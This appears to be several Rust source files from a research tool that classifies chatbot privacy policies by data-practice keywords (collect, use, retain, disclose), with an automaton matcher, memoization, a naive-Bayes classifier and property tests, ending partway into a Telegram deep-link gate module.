    pub fn standard() -> KeywordOntology {
        let mut sets = BTreeMap::new();
        sets.insert(
            DataPractice::Collect,
            words(&[
                "collect",
                "gather",
                "acquire",
                "obtain",
                "receive",
                "record",
                "log",
                "capture",
                "harvest",
                "request your",
                "we ask for",
            ]),
        );
        sets.insert(
            DataPractice::Use,
            words(&[
                "use",
                "process",
                "analyze",
                "analyse",
                "utilize",
                "utilise",
                "improve our",
                "personalize",
                "moderate",
                "provide functionality",
            ]),
        );
        sets.insert(
            DataPractice::Retain,
            words(&[
                "retain",
                "store",
                "keep",
                "kept",
                "save",
                "remember",
                "persist",
                "database",
                "archiv",
                "retention",
            ]),
        );
        sets.insert(
            DataPractice::Disclose,
            words(&[
                "disclose",
                "share",
                "transfer",
                "sell",
                "third party",
                "third-party",
                "third parties",
                "provide to",
                "partners",
            ]),
        );
        KeywordOntology::from_sets(sets)
    }

    /// An ontology with only the four base verbs — the ablation baseline
    /// (no synonyms, no ecosystem vocabulary).
    pub fn base_verbs_only() -> KeywordOntology {
        let mut sets = BTreeMap::new();
        sets.insert(DataPractice::Collect, words(&["collect"]));
        sets.insert(DataPractice::Use, words(&["use"]));
        sets.insert(DataPractice::Retain, words(&["retain"]));
        sets.insert(DataPractice::Disclose, words(&["disclose"]));
        KeywordOntology::from_sets(sets)
    }

    /// Keywords for one practice.
    pub fn keywords(&self, practice: DataPractice) -> &[String] {
        self.sets.get(&practice).map(Vec::as_slice).unwrap_or(&[])
    }

    /// Add a keyword to a practice set (lowercased). Invalidates the
    /// compiled automaton; it is rebuilt on the next query.
    pub fn add_keyword(&mut self, practice: DataPractice, keyword: &str) {
        self.sets
            .entry(practice)
            .or_default()
            .push(keyword.to_ascii_lowercase());
        self.compiled = OnceLock::new();
    }

    fn compiled(&self) -> &Compiled {
        self.compiled.get_or_init(|| {
            let mut patterns: Vec<&str> = Vec::new();
            let mut pattern_practice = Vec::new();
            for (&practice, kws) in &self.sets {
                for kw in kws {
                    patterns.push(kw);
                    pattern_practice.push(practice);
                }
            }
            let automaton = AhoCorasickBuilder::new()
                .ascii_case_insensitive(true)
                .match_mode(MatchMode::WordPrefix)
                .build(patterns);
            Compiled {
                automaton,
                pattern_practice,
            }
        })
    }

    /// Does `text` describe `practice`? Case-insensitive keyword scan with
    /// left-word-boundary matching (so "collects"/"collected" hit "collect",
    /// but "misuse" does not hit "use"). Single automaton pass, early exit
    /// on the first keyword of the practice.
    pub fn mentions(&self, practice: DataPractice, text: &str) -> bool {
        let c = self.compiled();
        c.automaton
            .find_iter(text)
            .any(|m| c.pattern_practice[m.pattern] == practice)
    }

    /// Every practice the text describes, in [`DataPractice::ALL`] order.
    /// One pass over `text` regardless of how many practices/keywords the
    /// ontology holds; exits early once all four are found.
    pub fn practices_in(&self, text: &str) -> Vec<DataPractice> {
        let c = self.compiled();
        let mut seen = [false; 4];
        for m in c.automaton.find_iter(text) {
            seen[c.pattern_practice[m.pattern] as usize] = true;
            if seen == [true; 4] {
                break;
            }
        }
        DataPractice::ALL
            .iter()
            .copied()
            .filter(|p| seen[*p as usize])
            .collect()
    }

    /// Kernel counters for this instance (compiles the automaton if no
    /// query has run yet).
    pub fn kernel_stats(&self) -> OntologyKernelStats {
        let c = self.compiled();
        let ScanStats {
            scans,
            bytes_scanned,
        } = c.automaton.stats();
        OntologyKernelStats {
            automaton_states: c.automaton.state_count() as u64,
            scans,
            bytes_scanned,
        }
    }
}

// The compiled automaton rides along as a cache, so the derives are spelled
// out by hand: semantically the ontology *is* its `sets` map, and the
// serialized form must stay byte-compatible with the old
// `#[derive(Serialize)]` on the sets-only struct.

impl Clone for KeywordOntology {
    fn clone(&self) -> KeywordOntology {
        KeywordOntology::from_sets(self.sets.clone())
    }
}

impl fmt::Debug for KeywordOntology {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("KeywordOntology")
            .field("sets", &self.sets)
            .finish()
    }
}

impl PartialEq for KeywordOntology {
    fn eq(&self, other: &KeywordOntology) -> bool {
        self.sets == other.sets
    }
}
impl Eq for KeywordOntology {}

impl Serialize for KeywordOntology {
    fn to_json_value(&self) -> Value {
        Value::Object(vec![("sets".to_string(), self.sets.to_json_value())])
    }
}

impl Deserialize for KeywordOntology {
    fn from_json_value(value: &Value) -> Result<KeywordOntology, serde::DeError> {
        Ok(KeywordOntology::from_sets(serde::de_field(
            value,
            "KeywordOntology",
            "sets",
        )?))
    }
}

/// `needle` must appear with a non-alphanumeric character (or string start)
/// immediately before it — a cheap stemming-friendly word boundary. This is
/// the naive reference implementation of [`matchkit::MatchMode::WordPrefix`]
/// matching; the differential property tests pin the two against each other
/// and the benches use it as the baseline.
pub fn contains_word_prefix(haystack: &str, needle: &str) -> bool {
    let mut from = 0;
    while let Some(pos) = haystack[from..].find(needle) {
        let abs = from + pos;
        let boundary_ok = abs == 0 || !haystack.as_bytes()[abs - 1].is_ascii_alphanumeric();
        if boundary_ok {
            return true;
        }
        from = abs + 1;
    }
    false
}

fn words(ws: &[&str]) -> Vec<String> {
    ws.iter().map(|w| w.to_ascii_lowercase()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base_verbs_match_with_inflection() {
        let o = KeywordOntology::standard();
        assert!(o.mentions(DataPractice::Collect, "We collect your username."));
        assert!(o.mentions(DataPractice::Collect, "Data is collected when you chat."));
        assert!(o.mentions(DataPractice::Retain, "Messages are stored for 30 days."));
        assert!(o.mentions(
            DataPractice::Disclose,
            "We never share data with third parties."
        ));
    }

    #[test]
    fn word_boundary_prevents_substring_hits() {
        let o = KeywordOntology::standard();
        // "misuse" must not count as describing Use.
        assert!(!o.mentions(DataPractice::Use, "We prohibit misuse."));
        assert!(o.mentions(DataPractice::Use, "We use your data."));
    }

    #[test]
    fn practices_in_lists_everything() {
        let o = KeywordOntology::standard();
        let text = "We collect messages, use them to moderate, store them securely, \
                    and share aggregates with partners.";
        assert_eq!(o.practices_in(text), DataPractice::ALL.to_vec());
        assert!(o.practices_in("Nothing relevant here.").is_empty());
    }

    #[test]
    fn synonyms_extend_coverage_over_base() {
        let full = KeywordOntology::standard();
        let base = KeywordOntology::base_verbs_only();
        let text = "Your data is gathered and kept in our database.";
        assert!(
            full.mentions(DataPractice::Collect, text),
            "synonym 'gather'"
        );
        assert!(
            full.mentions(DataPractice::Retain, text),
            "synonym 'kept'/'database'"
        );
        assert!(!base.mentions(DataPractice::Collect, text));
        assert!(!base.mentions(DataPractice::Retain, text));
    }

    #[test]
    fn custom_keywords() {
        let mut o = KeywordOntology::base_verbs_only();
        o.add_keyword(DataPractice::Collect, "scrape");
        assert!(o.mentions(DataPractice::Collect, "we scrape your guilds"));
    }

    #[test]
    fn add_keyword_invalidates_compiled_automaton() {
        let mut o = KeywordOntology::base_verbs_only();
        // Force compilation, then extend the set; the rebuilt automaton
        // must know the new keyword.
        assert!(!o.mentions(DataPractice::Collect, "we scrape your guilds"));
        let states_before = o.kernel_stats().automaton_states;
        o.add_keyword(DataPractice::Collect, "scrape");
        assert!(o.mentions(DataPractice::Collect, "we scrape your guilds"));
        assert!(o.kernel_stats().automaton_states > states_before);
    }

    #[test]
    fn case_insensitive() {
        let o = KeywordOntology::standard();
        assert!(o.mentions(DataPractice::Collect, "WE COLLECT EVERYTHING"));
    }

    #[test]
    fn clone_and_serialize_reflect_sets_only() {
        let o = KeywordOntology::standard();
        let _ = o.kernel_stats(); // compile the original's automaton
        let clone = o.clone();
        assert_eq!(o, clone);
        assert_eq!(
            o.to_json_value().render_compact(),
            clone.to_json_value().render_compact()
        );
    }
}
