//! The data-practice ontology.
//!
//! §3: "we identify words that are often used in privacy policies to
//! identify data practices in other domains: Collect, Use, Retain, and
//! Disclose … We then identified the synonyms of these words and keywords
//! akin to the chatbot ecosystem obtained from existing chatbot permissions
//! and privacy policies."

use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt;

/// The four data-practice categories.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum DataPractice {
    /// Gathering/acquiring user data.
    Collect,
    /// Using/processing the data.
    Use,
    /// Storing/remembering the data.
    Retain,
    /// Sharing/transferring the data to another party.
    Disclose,
}

impl DataPractice {
    /// All four practices.
    pub const ALL: [DataPractice; 4] =
        [DataPractice::Collect, DataPractice::Use, DataPractice::Retain, DataPractice::Disclose];
}

impl serde::SerializeMapKey for DataPractice {
    fn as_key(&self) -> String {
        self.to_string()
    }
}

impl fmt::Display for DataPractice {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            DataPractice::Collect => "collect",
            DataPractice::Use => "use",
            DataPractice::Retain => "retain",
            DataPractice::Disclose => "disclose",
        })
    }
}

/// Keyword sets per practice, lowercased. Matching is whole-word-ish
/// (keyword must appear bounded by non-alphanumeric characters) so "user"
/// does not match "misuse" but "collects"/"collected" are covered via
/// stemmed keyword entries.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct KeywordOntology {
    sets: BTreeMap<DataPractice, Vec<String>>,
}

impl KeywordOntology {
    /// The ontology used in the measurement: base verbs, synonyms, and
    /// chatbot-ecosystem vocabulary.
    pub fn standard() -> KeywordOntology {
        let mut sets = BTreeMap::new();
        sets.insert(
            DataPractice::Collect,
            words(&[
                "collect", "gather", "acquire", "obtain", "receive", "record",
                "log", "capture", "harvest", "request your", "we ask for",
            ]),
        );
        sets.insert(
            DataPractice::Use,
            words(&[
                "use", "process", "analyze", "analyse", "utilize", "utilise",
                "improve our", "personalize", "moderate", "provide functionality",
            ]),
        );
        sets.insert(
            DataPractice::Retain,
            words(&[
                "retain", "store", "keep", "kept", "save", "remember", "persist",
                "database", "archiv", "retention",
            ]),
        );
        sets.insert(
            DataPractice::Disclose,
            words(&[
                "disclose", "share", "transfer", "sell", "third party",
                "third-party", "third parties", "provide to", "partners",
            ]),
        );
        KeywordOntology { sets }
    }

    /// An ontology with only the four base verbs — the ablation baseline
    /// (no synonyms, no ecosystem vocabulary).
    pub fn base_verbs_only() -> KeywordOntology {
        let mut sets = BTreeMap::new();
        sets.insert(DataPractice::Collect, words(&["collect"]));
        sets.insert(DataPractice::Use, words(&["use"]));
        sets.insert(DataPractice::Retain, words(&["retain"]));
        sets.insert(DataPractice::Disclose, words(&["disclose"]));
        KeywordOntology { sets }
    }

    /// Keywords for one practice.
    pub fn keywords(&self, practice: DataPractice) -> &[String] {
        self.sets.get(&practice).map(Vec::as_slice).unwrap_or(&[])
    }

    /// Add a keyword to a practice set (lowercased).
    pub fn add_keyword(&mut self, practice: DataPractice, keyword: &str) {
        self.sets.entry(practice).or_default().push(keyword.to_ascii_lowercase());
    }

    /// Does `text` describe `practice`? Case-insensitive keyword scan with
    /// left-word-boundary matching (so "collects"/"collected" hit "collect",
    /// but "misuse" does not hit "use").
    pub fn mentions(&self, practice: DataPractice, text: &str) -> bool {
        let haystack = text.to_ascii_lowercase();
        self.keywords(practice).iter().any(|kw| contains_word_prefix(&haystack, kw))
    }

    /// Every practice the text describes.
    pub fn practices_in(&self, text: &str) -> Vec<DataPractice> {
        DataPractice::ALL
            .iter()
            .copied()
            .filter(|p| self.mentions(*p, text))
            .collect()
    }
}

/// `needle` must appear with a non-alphanumeric character (or string start)
/// immediately before it — a cheap stemming-friendly word boundary.
fn contains_word_prefix(haystack: &str, needle: &str) -> bool {
    let mut from = 0;
    while let Some(pos) = haystack[from..].find(needle) {
        let abs = from + pos;
        let boundary_ok = abs == 0
            || !haystack.as_bytes()[abs - 1].is_ascii_alphanumeric();
        if boundary_ok {
            return true;
        }
        from = abs + 1;
    }
    false
}

fn words(ws: &[&str]) -> Vec<String> {
    ws.iter().map(|w| w.to_ascii_lowercase()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base_verbs_match_with_inflection() {
        let o = KeywordOntology::standard();
        assert!(o.mentions(DataPractice::Collect, "We collect your username."));
        assert!(o.mentions(DataPractice::Collect, "Data is collected when you chat."));
        assert!(o.mentions(DataPractice::Retain, "Messages are stored for 30 days."));
        assert!(o.mentions(DataPractice::Disclose, "We never share data with third parties."));
    }

    #[test]
    fn word_boundary_prevents_substring_hits() {
        let o = KeywordOntology::standard();
        // "misuse" must not count as describing Use.
        assert!(!o.mentions(DataPractice::Use, "We prohibit misuse."));
        assert!(o.mentions(DataPractice::Use, "We use your data."));
    }

    #[test]
    fn practices_in_lists_everything() {
        let o = KeywordOntology::standard();
        let text = "We collect messages, use them to moderate, store them securely, \
                    and share aggregates with partners.";
        assert_eq!(o.practices_in(text), DataPractice::ALL.to_vec());
        assert!(o.practices_in("Nothing relevant here.").is_empty());
    }

    #[test]
    fn synonyms_extend_coverage_over_base() {
        let full = KeywordOntology::standard();
        let base = KeywordOntology::base_verbs_only();
        let text = "Your data is gathered and kept in our database.";
        assert!(full.mentions(DataPractice::Collect, text), "synonym 'gather'");
        assert!(full.mentions(DataPractice::Retain, text), "synonym 'kept'/'database'");
        assert!(!base.mentions(DataPractice::Collect, text));
        assert!(!base.mentions(DataPractice::Retain, text));
    }

    #[test]
    fn custom_keywords() {
        let mut o = KeywordOntology::base_verbs_only();
        o.add_keyword(DataPractice::Collect, "scrape");
        assert!(o.mentions(DataPractice::Collect, "we scrape your guilds"));
    }

    #[test]
    fn case_insensitive() {
        let o = KeywordOntology::standard();
        assert!(o.mentions(DataPractice::Collect, "WE COLLECT EVERYTHING"));
    }
}
