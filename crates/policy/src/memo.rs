//! Content-hash memoization for traceability analysis.
//!
//! Template bots reuse boilerplate policies verbatim, so the parallel audit
//! engine's analysis workers share one [`AnalysisMemo`]: each distinct
//! (policy text, requested permissions) pair is scanned against the keyword
//! ontology exactly once, and every later bot with the same pair gets the
//! stored [`TraceabilityReport`].

use crate::document::PrivacyPolicy;
use crate::ontology::KeywordOntology;
use crate::traceability::{analyze, TraceabilityReport};
use parking_lot::Mutex;
use std::collections::BTreeMap;
use std::sync::atomic::{AtomicU64, Ordering};

/// FNV-1a over a byte stream: cheap, deterministic, stable across runs.
fn fnv1a(parts: impl IntoIterator<Item = u8>) -> u64 {
    let mut hash = 0xcbf2_9ce4_8422_2325u64;
    for byte in parts {
        hash ^= byte as u64;
        hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
    }
    hash
}

/// A thread-safe memo table from content hash to analyzer output. Shared
/// (`&AnalysisMemo`) between analysis workers.
#[derive(Default)]
pub struct AnalysisMemo {
    map: Mutex<BTreeMap<u64, TraceabilityReport>>,
    hits: AtomicU64,
    misses: AtomicU64,
}

impl AnalysisMemo {
    /// An empty memo.
    pub fn new() -> AnalysisMemo {
        AnalysisMemo::default()
    }

    /// Hash the analyzer's full input: policy text (including the
    /// substance-check word count via the text itself) and the requested
    /// permission names, with `0xff` separators no permission name or
    /// section text contains.
    fn key(policy: &PrivacyPolicy, requested_permissions: &[&str]) -> u64 {
        let bytes = policy.full_text().into_bytes().into_iter().chain(
            requested_permissions
                .iter()
                .flat_map(|p| std::iter::once(0xffu8).chain(p.bytes())),
        );
        fnv1a(bytes)
    }

    /// Memoized [`analyze`]. Bots without a policy skip the table — the
    /// no-policy report is constant and cheaper than a lookup.
    pub fn analyze(
        &self,
        policy: Option<&PrivacyPolicy>,
        requested_permissions: &[&str],
        ontology: &KeywordOntology,
    ) -> TraceabilityReport {
        let Some(policy) = policy else {
            return analyze(None, requested_permissions, ontology);
        };
        let key = Self::key(policy, requested_permissions);
        if let Some(cached) = self.map.lock().get(&key).cloned() {
            self.hits.fetch_add(1, Ordering::Relaxed);
            return cached;
        }
        // Scan outside the lock; racing workers on the same cold key both
        // compute the same report and the second insert is a no-op.
        let report = analyze(Some(policy), requested_permissions, ontology);
        self.misses.fetch_add(1, Ordering::Relaxed);
        self.map.lock().insert(key, report.clone());
        report
    }

    /// Analyses served from the memo table.
    pub fn hits(&self) -> u64 {
        self.hits.load(Ordering::Relaxed)
    }

    /// Analyses that ran the real keyword scan.
    pub fn misses(&self) -> u64 {
        self.misses.load(Ordering::Relaxed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::corpus;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn memo_matches_direct_analysis() {
        let mut rng = StdRng::seed_from_u64(5);
        let p = corpus::complete_policy(&mut rng, "B", true);
        let ontology = KeywordOntology::standard();
        let perms = ["read message history", "administrator"];

        let memo = AnalysisMemo::new();
        let cold = memo.analyze(Some(&p), &perms, &ontology);
        let hit = memo.analyze(Some(&p), &perms, &ontology);
        let direct = analyze(Some(&p), &perms, &ontology);
        assert_eq!(cold, direct);
        assert_eq!(hit, direct);
        assert_eq!((memo.hits(), memo.misses()), (1, 1));
    }

    #[test]
    fn distinct_permissions_do_not_share_entries() {
        let mut rng = StdRng::seed_from_u64(6);
        let p = corpus::complete_policy(&mut rng, "B", true);
        let ontology = KeywordOntology::standard();

        let memo = AnalysisMemo::new();
        let a = memo.analyze(Some(&p), &["kick members"], &ontology);
        let b = memo.analyze(Some(&p), &["manage roles"], &ontology);
        assert_eq!(memo.misses(), 2, "different inputs, different entries");
        assert_ne!(a.permission_disclosures, b.permission_disclosures);
    }

    #[test]
    fn no_policy_bypasses_the_table() {
        let memo = AnalysisMemo::new();
        let ontology = KeywordOntology::standard();
        let r = memo.analyze(None, &["send messages"], &ontology);
        assert_eq!(r, analyze(None, &["send messages"], &ontology));
        assert_eq!((memo.hits(), memo.misses()), (0, 0));
    }
}
