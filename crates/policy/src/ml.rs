//! ML-based traceability classification — the paper's future work, built.
//!
//! §5: "Exploring ML techniques for the analysis would be an interesting
//! research direction, as it has been done for voice assistants [24, 25].
//! Also, we could not use any of the existing NLP-based tools … because
//! their ontologies do not cover all the data types in this new ecosystem.
//! … there is currently no annotated dataset that can be used to train a
//! ML model."
//!
//! The synthetic ecosystem *is* an annotated dataset, so we can build the
//! model: a multinomial naive-Bayes bag-of-words classifier over the three
//! traceability classes, trained on labeled policies and compared head to
//! head with the keyword analyzer.

use crate::document::PrivacyPolicy;
use crate::traceability::Traceability;
use std::collections::BTreeMap;

/// Tokenize into lowercase alphanumeric words.
fn tokens(text: &str) -> Vec<String> {
    text.to_ascii_lowercase()
        .split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|w| w.len() >= 2)
        .map(str::to_string)
        .collect()
}

/// A multinomial naive-Bayes classifier over traceability classes.
#[derive(Debug, Clone)]
pub struct NaiveBayesTraceability {
    /// Per-class word counts.
    word_counts: BTreeMap<Traceability, BTreeMap<String, u32>>,
    /// Per-class total token counts.
    class_tokens: BTreeMap<Traceability, u32>,
    /// Per-class document counts (for priors).
    class_docs: BTreeMap<Traceability, u32>,
    /// Vocabulary size (for Laplace smoothing).
    vocabulary: BTreeMap<String, ()>,
    total_docs: u32,
}

impl Default for NaiveBayesTraceability {
    fn default() -> Self {
        Self::new()
    }
}

impl NaiveBayesTraceability {
    /// An untrained classifier.
    pub fn new() -> NaiveBayesTraceability {
        NaiveBayesTraceability {
            word_counts: BTreeMap::new(),
            class_tokens: BTreeMap::new(),
            class_docs: BTreeMap::new(),
            vocabulary: BTreeMap::new(),
            total_docs: 0,
        }
    }

    /// Add one labeled training document.
    pub fn train(&mut self, policy: &PrivacyPolicy, label: Traceability) {
        let counts = self.word_counts.entry(label).or_default();
        for token in tokens(&policy.full_text()) {
            *counts.entry(token.clone()).or_default() += 1;
            *self.class_tokens.entry(label).or_default() += 1;
            self.vocabulary.insert(token, ());
        }
        *self.class_docs.entry(label).or_default() += 1;
        self.total_docs += 1;
    }

    /// Number of training documents seen.
    pub fn trained_on(&self) -> u32 {
        self.total_docs
    }

    /// Classify a policy. Returns `None` until at least one document per
    /// observed class has been trained.
    pub fn predict(&self, policy: &PrivacyPolicy) -> Option<Traceability> {
        if self.total_docs == 0 {
            return None;
        }
        let vocab = self.vocabulary.len().max(1) as f64;
        let doc_tokens = tokens(&policy.full_text());
        let mut best: Option<(Traceability, f64)> = None;
        for (&class, docs) in &self.class_docs {
            let prior = f64::from(*docs) / f64::from(self.total_docs);
            let class_total = f64::from(self.class_tokens.get(&class).copied().unwrap_or(0));
            let empty = BTreeMap::new();
            let counts = self.word_counts.get(&class).unwrap_or(&empty);
            let mut log_p = prior.ln();
            for token in &doc_tokens {
                let c = f64::from(counts.get(token).copied().unwrap_or(0));
                log_p += ((c + 1.0) / (class_total + vocab)).ln();
            }
            if best.map(|(_, b)| log_p > b).unwrap_or(true) {
                best = Some((class, log_p));
            }
        }
        best.map(|(c, _)| c)
    }
}

/// Train on a labeled corpus and score accuracy on a held-out one.
pub fn train_and_score(
    train: &[(PrivacyPolicy, Traceability)],
    test: &[(PrivacyPolicy, Traceability)],
) -> (NaiveBayesTraceability, f64) {
    let mut model = NaiveBayesTraceability::new();
    for (doc, label) in train {
        model.train(doc, *label);
    }
    if test.is_empty() {
        return (model, 1.0);
    }
    let hits = test
        .iter()
        .filter(|(doc, label)| model.predict(doc) == Some(*label))
        .count();
    let accuracy = hits as f64 / test.len() as f64;
    (model, accuracy)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::corpus;
    use crate::ontology::KeywordOntology;
    use crate::traceability::analyze;
    use crate::DataPractice;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    /// Generate a labeled corpus (labels from the generators' construction).
    fn labeled_corpus(seed: u64, n: usize) -> Vec<(PrivacyPolicy, Traceability)> {
        let mut rng = StdRng::seed_from_u64(seed);
        let mut out = Vec::new();
        for i in 0..n {
            out.push(match i % 4 {
                0 => (
                    corpus::complete_policy(&mut rng, "B", i % 8 == 0),
                    Traceability::Complete,
                ),
                1 => (
                    corpus::partial_policy(
                        &mut rng,
                        "B",
                        &[DataPractice::Collect, DataPractice::Use],
                        true,
                    ),
                    Traceability::Partial,
                ),
                2 => (corpus::generic_boilerplate(), Traceability::Partial),
                _ => (corpus::vacuous_policy(), Traceability::Broken),
            });
        }
        out
    }

    #[test]
    fn naive_bayes_learns_the_corpus() {
        let train = labeled_corpus(1, 400);
        let test = labeled_corpus(2, 120);
        let (model, accuracy) = train_and_score(&train, &test);
        assert_eq!(model.trained_on(), 400);
        assert!(accuracy > 0.9, "held-out accuracy {accuracy}");
    }

    #[test]
    fn untrained_model_abstains() {
        let model = NaiveBayesTraceability::new();
        assert_eq!(model.predict(&corpus::generic_boilerplate()), None);
    }

    #[test]
    fn ml_agrees_with_keywords_on_generated_policies() {
        // Head-to-head: on the generated population both approaches should
        // broadly agree (the keyword analyzer defines the labels here).
        let ontology = KeywordOntology::standard();
        let train = labeled_corpus(3, 400);
        let (model, _) = train_and_score(&train, &[]);
        let test = labeled_corpus(4, 100);
        let mut agree = 0;
        for (doc, _) in &test {
            let kw = analyze(Some(doc), &[], &ontology).classification;
            if model.predict(doc) == Some(kw) {
                agree += 1;
            }
        }
        assert!(agree >= 90, "agreement {agree}/100");
    }

    #[test]
    fn ml_generalizes_where_keywords_fail() {
        // The §5 caveat: "words often have multiple meanings and could also
        // be written in various forms, which could affect the accuracy of
        // the traceability result." A synonym-free test document defeats the
        // base-verb keyword set but the trained model can still classify it
        // by its overall vocabulary.
        let train = labeled_corpus(5, 400);
        let (model, _) = train_and_score(&train, &[]);
        // Same register as the complete-policy generator but phrased with
        // its synonym vocabulary only.
        let mut rng = StdRng::seed_from_u64(6);
        let doc = corpus::complete_policy(&mut rng, "X", true);
        let base = KeywordOntology::base_verbs_only();
        let kw_base = analyze(Some(&doc), &[], &base).classification;
        let ml = model.predict(&doc);
        // The degraded keyword set frequently under-classifies; the model
        // should still say Complete.
        assert_eq!(ml, Some(Traceability::Complete));
        let _ = kw_base; // (may or may not be degraded for this sample)
    }
}
