//! Property tests for the traceability analyzer.

use policy::{analyze, corpus, DataPractice, KeywordOntology, PrivacyPolicy, Traceability};
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::SeedableRng;

proptest! {
    /// The analyzer is total over arbitrary text.
    #[test]
    fn analyzer_is_total(text in "\\PC{0,400}", perm in "[a-z @]{0,30}") {
        let p = PrivacyPolicy::new("P", vec![text], false);
        let report = analyze(Some(&p), &[perm.as_str()], &KeywordOntology::standard());
        // Classification is always one of the three, and disclosures cover
        // exactly the requested permissions (when the page is substantive).
        if p.is_substantive() {
            prop_assert_eq!(report.permission_disclosures.len(), 1);
        }
        prop_assert!(report.disclosure_ratio() >= 0.0 && report.disclosure_ratio() <= 1.0);
    }

    /// Generated complete policies always classify complete; generated
    /// partial policies never do.
    #[test]
    fn corpus_classification_invariant(seed in any::<u64>()) {
        let ontology = KeywordOntology::standard();
        let mut rng = StdRng::seed_from_u64(seed);
        let complete = corpus::complete_policy(&mut rng, "B", seed % 2 == 0);
        prop_assert_eq!(
            analyze(Some(&complete), &[], &ontology).classification,
            Traceability::Complete
        );
        let partial = corpus::partial_policy(&mut rng, "B", &[DataPractice::Retain], true);
        let c = analyze(Some(&partial), &[], &ontology).classification;
        prop_assert_ne!(c, Traceability::Complete);
        prop_assert_ne!(c, Traceability::Broken);
    }

    /// Adding keywords can only move classifications toward Complete.
    #[test]
    fn extra_keywords_are_monotone(text in "[a-z ]{20,120}", extra in "[a-z]{3,10}") {
        let base = KeywordOntology::standard();
        let mut extended = KeywordOntology::standard();
        extended.add_keyword(DataPractice::Disclose, &extra);
        let p = PrivacyPolicy::new("P", vec![format!("{text} padding words for substantiveness here")], false);
        let rank = |c: Traceability| match c {
            Traceability::Complete => 2,
            Traceability::Partial => 1,
            Traceability::Broken => 0,
        };
        let before = rank(analyze(Some(&p), &[], &base).classification);
        let after = rank(analyze(Some(&p), &[], &extended).classification);
        prop_assert!(after >= before);
    }
}
