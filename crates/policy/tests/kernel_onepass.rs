//! Regression tests for the single-pass keyword kernel.
//!
//! PR 2 replaced the naive ontology scan (lowercase the whole document once
//! per practice, then walk it once per keyword) with one Aho–Corasick pass.
//! These tests pin the one-pass property via the automaton's own scan
//! counters, and pin the automaton's word-prefix semantics against the
//! naive reference implementation differentially.

use matchkit::{AhoCorasickBuilder, MatchMode};
use policy::{analyze, contains_word_prefix, KeywordOntology, PrivacyPolicy};
use proptest::prelude::*;

#[test]
fn practices_in_scans_the_text_exactly_once() {
    let ontology = KeywordOntology::standard();
    // Keyword-free text: no match means no early exit, so the pass must
    // consume every byte — and exactly once.
    let text = "zzz qqq xxx ".repeat(2_000);
    let before = ontology.kernel_stats();
    assert!(ontology.practices_in(&text).is_empty());
    let after = ontology.kernel_stats();
    assert_eq!(
        after.scans - before.scans,
        1,
        "one scan pass, not one per practice"
    );
    assert_eq!(
        after.bytes_scanned - before.bytes_scanned,
        text.len() as u64,
        "every byte consumed exactly once"
    );
}

#[test]
fn practices_in_exits_early_once_all_practices_are_found() {
    let ontology = KeywordOntology::standard();
    let head = "we collect, use, store, and share your data. ";
    let tail = "filler ".repeat(5_000);
    let text = format!("{head}{tail}");
    let before = ontology.kernel_stats();
    assert_eq!(ontology.practices_in(&text).len(), 4);
    let after = ontology.kernel_stats();
    assert_eq!(after.scans - before.scans, 1);
    assert!(
        after.bytes_scanned - before.bytes_scanned <= head.len() as u64,
        "all four practices sit in the head; the tail is never read"
    );
}

#[test]
fn mentions_is_still_per_practice_but_analyze_uses_the_single_pass() {
    // `analyze` on a substantive keyword-free policy does one practices_in
    // pass plus nothing else on the ontology automaton.
    let ontology = KeywordOntology::standard();
    let policy = PrivacyPolicy::new(
        "P",
        vec!["nothing relevant in this wordy sufficiently long paragraph of text".into()],
        false,
    );
    let before = ontology.kernel_stats();
    let report = analyze(Some(&policy), &["send messages", "kick members"], &ontology);
    let after = ontology.kernel_stats();
    assert!(report.practices_found.is_empty());
    assert_eq!(
        after.scans - before.scans,
        1,
        "permission disclosures must not rescan via the ontology"
    );
}

proptest! {
    /// The automaton's word-prefix acceptance is the same predicate as the
    /// naive `contains_word_prefix` reference, including ASCII case
    /// folding, on arbitrary text.
    #[test]
    fn word_prefix_matches_reference(hay in "\\PC{0,200}", needle in "[a-zA-Z@é -]{1,10}") {
        let needle_lower = needle.to_ascii_lowercase();
        let naive = contains_word_prefix(&hay.to_ascii_lowercase(), &needle_lower);
        let automaton = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_mode(MatchMode::WordPrefix)
            .build([needle_lower.as_str()]);
        prop_assert_eq!(automaton.contains_any(&hay), naive);
    }

    /// Full-ontology differential: `mentions` (automaton) agrees with the
    /// naive lowercase-then-scan loop for every practice.
    #[test]
    fn mentions_matches_naive_keyword_loop(text in "\\PC{0,300}") {
        let ontology = KeywordOntology::standard();
        let haystack = text.to_ascii_lowercase();
        for practice in policy::DataPractice::ALL {
            let naive = ontology
                .keywords(practice)
                .iter()
                .any(|kw| contains_word_prefix(&haystack, kw));
            prop_assert_eq!(ontology.mentions(practice, &text), naive, "{}", practice);
        }
    }
}
