//! The deep-link gate: a web front for `t.sim` install links.
//!
//! Telegram bots are installed from `https://t.me/<username>` deep links.
//! The crawler needs to *validate* scraped links — does the bot still
//! exist, what will it be granted — without installing anything, so the
//! gate answers a GET on the link with echo headers, the same trick
//! `discord-sim`'s OAuth web gate plays with `x-oauth-echo`:
//!
//! * `x-tg-bot` — the bot's username
//! * `x-tg-rights` — the admin rights its install will request, in
//!   deep-link field encoding (see [`TgRights::to_deeplink_field`])
//! * `x-tg-privacy` — `on` / `off`
//!
//! Unknown usernames answer `410 Gone` (the bot was deleted — the listing
//! is stale) and empty paths `400 Bad Request` (a malformed link).

use crate::tg::TgPlatform;
use netsim::http::{Request, Response, Status};
use netsim::{Network, ServiceCtx};
use platform::{TgRights, TELEGRAM_DEEPLINK_HOST};

/// Render a bot's install deep link, admin rights in the query so the
/// requested grant is visible to anyone (or any crawler) reading the link.
